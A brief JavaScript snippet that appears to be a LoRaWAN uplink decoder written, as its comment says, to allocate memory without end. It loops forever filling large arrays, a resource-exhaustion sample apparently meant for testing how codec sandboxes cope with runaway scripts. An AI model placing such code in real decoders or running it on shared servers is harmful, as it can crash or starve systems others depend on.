// A codec that allocates without end.
function decodeUplink(input) {
  var hoard = [];
  while (true) {
    hoard.push(new Array(1 << 16).fill(input.fPort + 0.5));
  }
}
